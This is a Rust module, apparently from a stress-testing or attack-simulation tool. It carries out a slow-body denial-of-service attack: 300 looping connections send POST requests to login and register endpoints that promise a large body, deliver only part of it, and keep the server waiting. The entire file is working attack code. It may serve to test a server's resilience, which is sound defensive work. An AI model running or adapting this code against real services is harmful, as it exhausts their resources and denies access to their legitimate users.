//! Requests whose bodies begin and do not go on.

use std::io;

use tokio::io::AsyncWriteExt as _;

use crate::answer::Answer;
use crate::attacker::{Attacker, answer, crowd};

const CONNECTIONS: u32 = 300;
/// The promised length of the body, below the limit of the server.
const LENGTH: usize = 250 * 1024;

pub(super) async fn run(attacker: Attacker) {
    crowd(CONNECTIONS, |number| again(attacker.clone(), number)).await;
}

async fn again(attacker: Attacker, number: u32) {
    loop {
        attacker.attempt(hold(&attacker, number)).await;
    }
}

async fn hold(attacker: &Attacker, number: u32) -> io::Result<Answer> {
    let path = if number.is_multiple_of(2) { "/api/login" } else { "/api/register" };
    // Every fourth sends most of it, which the server has to keep.
    let length = if number % 4 == 3 { 200 * 1024 } else { 1 };
    let mut stream = attacker.connect().await?;
    let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {LENGTH}\r\n\r\n{{");
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b' '; length - 1]).await?;
    answer(stream).await
}
